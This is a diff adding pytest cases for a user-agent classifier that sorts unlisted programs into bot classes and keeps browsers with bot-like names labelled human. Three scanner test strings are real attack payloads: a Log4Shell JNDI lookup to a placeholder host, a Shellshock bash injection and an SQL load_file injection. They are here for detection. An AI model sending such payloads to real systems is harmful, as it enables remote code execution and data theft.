@@ -181,6 +181,50 @@ def test_what_no_rule_knows_has_no_name(text: str, agent: str) -> None:
 
 
 @pytest.mark.parametrize(
+    ("text", "kind"),
+    [
+        ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Unheard-User/1.0)", "ai-assistant"),
+        (f"{_CHROME} (compatible; Unheard AI-Crawler/2.1)", "ai-crawler"),
+        (f"{_CHROME} (compatible; Unheard/2.1)", "other"),
+        (f"{_CHROME} Unheard/1.0 (https://unheard.example/why)", "other"),
+        (f"{_CHROME} UnheardInspector/1.0", "other"),
+        ("Mozilla/5.0 (compatible; unheard.com - we look at pages; a, b)", "other"),
+        ("unheard.io - looks (at; pages)", "other"),
+        ("Unheard/4 (Feed Parser; Allow like Gecko; b)", "feed"),
+        ("Mozilla/5.0 (compatible; unheard; 2 subscribers; x=y)", "feed"),
+        ("UnheardMonitor/1.0 (Linux; x; y)", "monitor"),
+        ("unheard/1.24 grpc-c/8.0.0 (linux; chttp2; ganges)", "library"),
+        ("unheard (4.3.1 x86_64-pc-linux-gnu x86_64 linux-gnu)", "library"),
+        ("${jndi:ldap://unheard.example/a}", "scanner"),
+        ("() { :; }; /bin/bash -c x", "scanner"),
+        (f"{_CHROME}'+(select load_file('x.example'))+'", "scanner"),
+        ("Mozilla/5.0 (Unheard/1.0)", "other"),
+    ],
+)
+def test_programs_nobody_listed_are_told_by_what_they_do(text: str, kind: str) -> None:
+    """Forms that only programs have tell a program that no list knows; it has a class and no name."""
+    found = describe(text)
+    assert (found.agent, found.bot, found.bot_class) == ("bot", NONE, kind)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1; Embedded Web Browser from: http://bsalsa.com/; .NET)",
+        f"{_CHROME} CamScanner/4.5.0",
+        "Safari%20Technology%20Preview/15610.1.16.3 CFNetwork/1126 Darwin/19.5.0 (x86_64)",
+        "Lynx/2.8.9rel.1 libwww-FM/2.14 SSL-MM/1.4.1 GNUTLS/3.6.5",
+        "Mozilla/5.0 (Linux; Android 10) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 ProxyFox/11",
+        "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.1; WOW64; Trident/6.0)",
+        "com.example.Mail/8623.2 CFNetwork/3860.400.51 Darwin/25.3.0",
+    ],
+)
+def test_people_with_such_words_stay_people(text: str) -> None:
+    """A browser whose name holds a word of programs is still one."""
+    assert describe(text).agent == "human"
+
+
+@pytest.mark.parametrize(
     "text",
     [
         "AliceSmith1975/20260101120000 CFNetwork/808.3 Darwin/16.3.0",
